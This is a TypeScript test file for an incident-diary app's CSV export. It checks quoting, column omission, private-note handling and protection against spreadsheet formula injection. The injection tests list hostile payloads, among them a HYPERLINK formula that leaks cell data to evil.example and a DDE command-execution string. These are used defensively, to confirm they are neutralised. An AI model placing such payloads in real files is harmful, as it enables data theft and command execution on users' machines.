import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { buildIncidentsCsv, CSV_COLUMNS, csvColumnsFor, type CsvColumn, type CsvLabels } from '../../../src/core/export/csv';
import type { ExportDocument, ExportEntry, OmittableField } from '../../../src/core/export/exportDocument';
import { effectiveOmit, OMITTABLE_FIELDS } from '../../../src/core/export/exportDocument';
import { EMPTY_SELECTION } from '../../../src/core/export/selection';
import { withLaterFields, type Incident, type IncidentWhen } from '../../../src/core/model/incident';
import { anIncident } from '../../support/incidentFactories';

/**
 * A small RFC 4180 reader, written for these tests: records end at CRLF outside quotes, cells
 * are separated by commas, a quoted cell runs to the next lone quote and "" is a quote.
 * Throws on anything not well-formed, so a broken CSV cannot parse by accident.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const atEnd = () => i >= text.length;
  for (;;) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (atEnd()) throw new Error('unterminated quoted cell');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i];
        i++;
      }
    } else {
      while (!atEnd() && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} in unquoted cell`);
        cell += text[i];
        i++;
      }
    }
    row.push(cell);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      i += 2;
      rows.push(row);
      row = [];
      if (atEnd()) return rows;
      continue;
    }
    throw new Error(`unexpected ${atEnd() ? 'end' : JSON.stringify(text[i])} after a cell`);
  }
}

/** The CSV without its byte order mark, read back into rows. */
function readBack(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parseCsv(csv.slice(1));
}

const COLUMN_NAMES: Record<CsvColumn, string> = {
  id: 'Reference',
  happened: 'When it happened',
  firstWritten: 'First written',
  lastChanged: 'Last changed',
  revisions: 'Versions',
  where: 'Where',
  whatHappened: 'What happened',
  behaviours: 'Behaviours',
  whoDidIt: 'Who did it',
  witnesses: 'Witnesses',
  evidenceElsewhere: 'Evidence elsewhere',
  attachments: 'Attachments',
  reported: 'Reported to police',
  policeReference: 'Police reference',
  officer: 'Officer',
  howItFelt: 'How it felt',
  whatItChanged: 'What it changed',
  breaches: 'Breaches',
  told: 'Who was told',
  privateNotes: 'Private notes',
};

function describeWhen(when: IncidentWhen): string {
  if (when.kind === 'exact') return `${when.date}${when.time === undefined ? '' : ` ${when.time}`}`;
  if (when.kind === 'approximate') return `About: ${when.description}`;
  return `Ongoing${when.since === undefined ? '' : ` since ${when.since}`}`;
}

const labels: CsvLabels = {
  column: (column) => COLUMN_NAMES[column],
  behaviour: (b) => `<${b}>`,
  when: describeWhen,
  yes: 'Yes',
  no: 'No',
  size: (bytes) => `${bytes} bytes`,
};

const SALT = '0f'.repeat(16);

/** The columns an export from before issue 16 had, and still has when no incident in it has the later fields. */
const CORE_COLUMNS = CSV_COLUMNS.filter((c) => c !== 'breaches' && c !== 'told' && c !== 'privateNotes');

function entry(id: string, versions: { incident: Incident; recordedAt: string }[]): ExportEntry {
  return {
    id,
    revisions: versions.map((v, i) => ({
      revision: i + 1,
      recordedAt: v.recordedAt,
      kind: 'complete',
      content: { v: 1, salt: SALT, body: v.incident },
    })),
  };
}

function documentOf(entries: ExportEntry[], omittedFields: OmittableField[] = []): ExportDocument {
  return {
    format: 'daybook-export',
    version: 1,
    generatedAt: '2025-04-01T12:00:00.000Z',
    scope: { behaviours: [], pickedIncidents: false, omittedFields, attachmentsIncluded: true, checklistsIncluded: false },
    chain: { links: [], head: '0'.repeat(64) },
    entries,
    checklists: [],
  };
}

/** The cells of the first data row, by column id. */
function firstRow(doc: ExportDocument, csvLabels: CsvLabels = labels): Record<string, string> {
  const [header, row] = readBack(buildIncidentsCsv(doc, csvLabels));
  if (header === undefined || row === undefined) throw new Error('no data row');
  const byName = new Map(Object.entries(COLUMN_NAMES).map(([id, name]) => [name, id]));
  return Object.fromEntries(header.map((name, i) => [byName.get(name) ?? name, row[i] ?? '']));
}

const single = (changes: Partial<Incident>) =>
  documentOf([entry('entry-1', [{ incident: anIncident(changes), recordedAt: '2025-03-14T22:30:00.000Z' }])]);

/** As single, but a version saved since issue 16: it holds the later fields. */
const singleLater = (changes: Partial<Incident>) =>
  documentOf([entry('entry-1', [{ incident: withLaterFields(anIncident(changes)), recordedAt: '2025-03-14T22:30:00.000Z' }])]);

describe('buildIncidentsCsv: layout', () => {
  it('starts with a UTF-8 byte order mark, ends every record with CRLF and quotes every cell', () => {
    const csv = buildIncidentsCsv(single({}), labels);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = csv.slice(1).split('\r\n');
    expect(records).toHaveLength(3); // header, one incident, '' after the last CRLF
    expect(records[0]).toBe(CORE_COLUMNS.map((c) => `"${COLUMN_NAMES[c]}"`).join(','));
  });

  it('writes the columns in order, one row per incident, in the document order', () => {
    const doc = documentOf([
      entry('entry-2', [{ incident: anIncident({ whatHappened: 'second' }), recordedAt: '2025-03-02T10:00:00.000Z' }]),
      entry('entry-1', [{ incident: anIncident({ whatHappened: 'first' }), recordedAt: '2025-03-01T10:00:00.000Z' }]),
    ]);
    const rows = readBack(buildIncidentsCsv(doc, labels));
    expect(rows[0]).toEqual(CORE_COLUMNS.map((c) => COLUMN_NAMES[c]));
    expect(rows.slice(1).map((row) => [row[0], row[6]])).toEqual([
      ['entry-2', 'second'],
      ['entry-1', 'first'],
    ]);
  });

  it('writes an empty export as its header alone', () => {
    expect(readBack(buildIncidentsCsv(documentOf([]), labels))).toEqual([CORE_COLUMNS.map((c) => COLUMN_NAMES[c])]);
  });

  it('fills every column from the latest version, with first and last written times and the count', () => {
    const doc = documentOf([
      entry('entry-1', [
        { incident: anIncident({ whatHappened: 'first version' }), recordedAt: '2025-03-14T22:30:00.000Z' },
        { incident: anIncident({ whatHappened: 'second version' }), recordedAt: '2025-03-15T08:00:00.000Z' },
        {
          incident: anIncident({
            whatHappened: 'third version',
            witnesses: [
              { name: 'Mrs Patel', contact: 'Flat 3' },
              { name: 'Bus driver', contact: '' },
            ],
            attachments: [
              { id: 'a', name: 'photo.jpg', type: 'image/jpeg', size: 1234, sha256: 'ab'.repeat(32) },
              { id: 'b', name: 'note', type: '', size: 0, sha256: 'cd'.repeat(32) },
            ],
          }),
          recordedAt: '2025-03-16T09:15:00.000Z',
        },
      ]),
    ]);
    expect(firstRow(doc)).toEqual({
      id: 'entry-1',
      happened: '2025-03-14 22:10',
      firstWritten: '2025-03-14T22:30:00.000Z',
      lastChanged: '2025-03-16T09:15:00.000Z',
      revisions: '3',
      where: 'Outside my flat, Station Road',
      whatHappened: 'third version',
      behaviours: '<turning-up>; <loitering>',
      whoDidIt: 'My ex-partner',
      witnesses: 'Mrs Patel — Flat 3\nBus driver',
      evidenceElsewhere: "Neighbour's doorbell camera",
      attachments: `photo.jpg (image/jpeg, 1234 bytes, ${'ab'.repeat(32)})\nnote (0 bytes, ${'cd'.repeat(32)})`,
      reported: 'Yes',
      policeReference: '43/12345/25',
      officer: 'PC 1234 Jones',
      howItFelt: 'Scared to go out',
      whatItChanged: 'A friend walks me to work',
    });
  });

  it('shows a partial version with its blanked fields, and "no" when not reported', () => {
    const body = anIncident({ reported: { reported: false } });
    const doc = documentOf([
      {
        id: 'entry-1',
        revisions: [
          { revision: 1, recordedAt: '2025-03-14T22:30:00.000Z', kind: 'partial', incident: { ...body, whoDidIt: '' }, omittedFields: [] },
        ],
      },
    ]);
    const row = firstRow(doc);
    expect(row.whoDidIt).toBe('');
    expect(row.reported).toBe('No');
    expect(row.policeReference).toBe('');
  });

  it('keeps quotes, commas and line breaks inside a cell', () => {
    const text = 'He said "you can\'t hide", then left,\r\nslowly.\nLater: "again"';
    const csv = buildIncidentsCsv(single({ whatHappened: text }), labels);
    expect(csv).toContain(`"He said ""you can't hide"", then left,\r\nslowly.\nLater: ""again"""`);
    expect(firstRow(single({ whatHappened: text })).whatHappened).toBe(text);
  });

  it('leaves out every column of each omitted field, and nothing else', () => {
    const cases: [OmittableField, CsvColumn[]][] = [
      ['where', ['where']],
      ['whoDidIt', ['whoDidIt']],
      ['witnesses', ['witnesses']],
      ['evidenceElsewhere', ['evidenceElsewhere']],
      ['reported', ['reported', 'policeReference', 'officer']],
      ['effect', ['howItFelt', 'whatItChanged']],
      ['told', ['told']],
      ['privateNotes', ['privateNotes']],
    ];
    expect(cases.map(([field]) => field)).toEqual([...OMITTABLE_FIELDS]);
    for (const [field, gone] of cases) {
      const later = singleLater({});
      const doc = { ...later, scope: { ...later.scope, omittedFields: [field] } };
      const header = readBack(buildIncidentsCsv(doc, labels))[0];
      expect(header).toEqual(CSV_COLUMNS.filter((c) => !gone.includes(c)).map((c) => COLUMN_NAMES[c]));
    }
    const all = { ...single({}), scope: { ...single({}).scope, omittedFields: [...OMITTABLE_FIELDS] } };
    const rows = readBack(buildIncidentsCsv(all, labels));
    expect(rows[0]).toEqual(
      ['id', 'happened', 'firstWritten', 'lastChanged', 'revisions', 'whatHappened', 'behaviours', 'attachments'].map(
        (c) => COLUMN_NAMES[c as CsvColumn],
      ),
    );
    expect(rows[1]).toHaveLength(8);
    expect(rows[1]?.join('|')).not.toMatch(/Station Road|Patel|43\/12345|Scared/);
  });
});

describe('buildIncidentsCsv: formula injection', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '  \u00A0@x',
    '\uFF1D1',
    '\uFF0B1',
    '\uFF0D1',
    '\uFF20SUM(A1)',
    '=1+1\nsecond line',
  ];

  it.each(payloads)('neutralises %j with a leading apostrophe and keeps the rest', (payload) => {
    const row = firstRow(single({ whatHappened: payload, where: payload, whoDidIt: payload }));
    expect(row.whatHappened).toBe(`'${payload}`);
    expect(row.where).toBe(`'${payload}`);
    expect(row.whoDidIt).toBe(`'${payload}`);
  });

  it('says when and how a file reached Daybook after its SHA-256, where that was recorded and the labels say it', () => {
    const doc = single({
      attachments: [
        {
          id: 'a',
          name: 'shot.png',
          type: 'image/png',
          size: 5,
          sha256: 'ab'.repeat(32),
          receivedAt: '2026-01-04T07:15:02.123Z',
          receivedVia: 'share',
        },
        { id: 'b', name: 'old.txt', type: '', size: 1, sha256: 'cd'.repeat(32), receivedAt: '2026-01-02T01:00:00.000Z' },
        { id: 'c', name: 'plain.txt', type: '', size: 2, sha256: 'ef'.repeat(32) },
      ],
    });
    const received = (file: { receivedAt: string; receivedVia?: string }) => `[${file.receivedVia ?? 'any'} ${file.receivedAt}]`;
    expect(firstRow(doc, { ...labels, received }).attachments).toBe(
      [
        `shot.png (image/png, 5 bytes, ${'ab'.repeat(32)}) [share 2026-01-04T07:15:02.123Z]`,
        `old.txt (1 bytes, ${'cd'.repeat(32)}) [any 2026-01-02T01:00:00.000Z]`,
        `plain.txt (2 bytes, ${'ef'.repeat(32)})`,
      ].join('\n'),
    );
    // Without the label, as before.
    expect(firstRow(doc).attachments).not.toContain('2026-01-04');
  });

  it('neutralises formulas in built cells, labels and headers too', () => {
    const hostile: CsvLabels = {
      column: (c) => (c === 'id' ? '=HEADER()' : COLUMN_NAMES[c]),
      behaviour: () => '-behaviour',
      when: () => '+when',
      yes: '@yes',
      no: '@no',
      size: () => '=size',
    };
    const doc = single({
      witnesses: [{ name: '=name', contact: 'x' }],
      attachments: [{ id: 'a', name: '-file', type: '', size: 1, sha256: 'ab'.repeat(32) }],
    });
    const [header, row] = readBack(buildIncidentsCsv(doc, hostile));
    expect(header?.[0]).toBe("'=HEADER()");
    expect(row?.[1]).toBe("'+when");
    expect(row?.[7]).toBe("'-behaviour; -behaviour");
    expect(row?.[9]).toBe("'=name — x");
    expect(row?.[11]).toBe(`'-file (=size, ${'ab'.repeat(32)})`);
    expect(row?.[12]).toBe("'@yes");
  });

  it.each(['I-95', 'a=b', 'Email me@example.com', '5+ times', "It's fine", '', '   ', '2025-03-14', '£50 damage'])(
    'leaves ordinary text %j untouched',
    (text) => {
      expect(firstRow(single({ whatHappened: text })).whatHappened).toBe(text);
    },
  );
});

// Characters that matter to CSV and spreadsheets, mixed with anything at all.
const trickyChar = fc.oneof(
  fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', '\u00A0', "'", '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFEFF'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
);
const textArb = fc.string({ unit: trickyChar, maxLength: 12 });

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const isDangerous = (cell: string): boolean => DANGEROUS.includes(cell.charAt(0)) || DANGEROUS.includes(cell.trimStart().charAt(0));

describe('buildIncidentsCsv: property', () => {
  it('reads back to one row per incident, every row as wide as the header, no cell a formula, text intact', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            id: textArb,
            where: textArb,
            whatHappened: textArb,
            whoDidIt: textArb,
            witness: fc.tuple(textArb, textArb),
            evidenceElsewhere: textArb,
            fileName: textArb,
            policeReference: textArb,
            officer: textArb,
            howItFelt: textArb,
            whatItChanged: textArb,
            description: textArb,
            toldWho: textArb,
            privateNotes: textArb,
          }),
          { maxLength: 4 },
        ),
        fc.subarray([...OMITTABLE_FIELDS]),
        textArb,
        (items, omitted, label) => {
          const entries = items.map((item) =>
            entry(item.id, [
              {
                recordedAt: '2025-03-14T22:30:00.000Z',
                incident: anIncident({
                  when: { kind: 'approximate', description: item.description },
                  where: item.where,
                  whatHappened: item.whatHappened,
                  whoDidIt: item.whoDidIt,
                  witnesses: [{ name: item.witness[0], contact: item.witness[1] }],
                  evidenceElsewhere: item.evidenceElsewhere,
                  attachments: [{ id: 'a', name: item.fileName, type: '', size: 1, sha256: 'ab'.repeat(32) }],
                  reported: { reported: true, policeReference: item.policeReference, officer: item.officer },
                  effect: { howItFelt: item.howItFelt, whatItChanged: item.whatItChanged },
                  breaches: [],
                  told: [{ who: item.toldWho, how: 'in-person' }],
                  privateNotes: item.privateNotes,
                }),
              },
            ]),
          );
          const anyLabels: CsvLabels = {
            ...labels,
            column: (c) => `${label}${c}`,
            when: (w) => (w.kind === 'approximate' ? w.description : ''),
          };
          const rows = readBack(buildIncidentsCsv(documentOf(entries, omitted), anyLabels));
          expect(rows).toHaveLength(items.length + 1);
          const width = rows[0]?.length ?? 0;
          // With no incident, there is no later field either: the columns are those from before issue 16.
          const later = items.length > 0;
          const gone = omitted.filter((f) => later || (f !== 'told' && f !== 'privateNotes'));
          expect(width).toBe(
            (later ? CSV_COLUMNS : CORE_COLUMNS).length - gone.reduce((n, f) => n + (f === 'reported' ? 3 : f === 'effect' ? 2 : 1), 0),
          );
          for (const row of rows) {
            expect(row).toHaveLength(width);
            for (const cell of row) expect(isDangerous(cell)).toBe(false);
          }
          // Text comes back exactly, apart from the apostrophe in front of a would-be formula.
          const header = rows[0] ?? [];
          const shown = (text: string) => (isDangerous(text) ? `'${text}` : text);
          items.forEach((item, n) => {
            const row = rows[n + 1] ?? [];
            const cell = (column: CsvColumn) => row[header.indexOf(shown(`${label}${column}`))];
            expect(cell('id')).toBe(shown(item.id));
            expect(cell('whatHappened')).toBe(shown(item.whatHappened));
            expect(cell('happened')).toBe(shown(item.description));
            if (!omitted.includes('effect')) expect(cell('whatItChanged')).toBe(shown(item.whatItChanged));
            if (!omitted.includes('privateNotes')) expect(cell('privateNotes')).toBe(shown(item.privateNotes));
            if (!omitted.includes('told')) expect(cell('told')).toBe(shown([item.toldWho, 'in-person'].filter((p) => p !== '').join(', ')));
          });
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('csvColumnsFor and private notes', () => {
  it('has no private notes column unless the person ticks them in', () => {
    expect(csvColumnsFor(effectiveOmit(EMPTY_SELECTION))).not.toContain('privateNotes');
    expect(csvColumnsFor(effectiveOmit({ ...EMPTY_SELECTION, includePrivateNotes: false }))).not.toContain('privateNotes');
    expect(csvColumnsFor(effectiveOmit({ ...EMPTY_SELECTION, includePrivateNotes: true }))).toContain('privateNotes');
  });
});
